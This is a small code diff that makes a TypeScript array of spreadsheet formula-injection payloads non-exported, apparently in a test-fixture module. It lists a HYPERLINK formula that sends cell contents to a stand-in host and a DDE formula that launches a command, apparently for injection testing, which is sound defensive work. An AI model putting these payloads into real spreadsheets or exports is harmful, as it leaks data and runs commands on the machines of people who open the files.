@@ -156,7 +156,7 @@ export const inMarkdown: readonly Payload[] = [
 ];
 
 /** What a spreadsheet takes for a formula. */
-export const inSpreadsheets: readonly Payload[] = [
+const inSpreadsheets: readonly Payload[] = [
   '=HYPERLINK("http://x.test/"&A1)',
   `=cmd|' /C calc'!A0`,
   '+1+cmd',
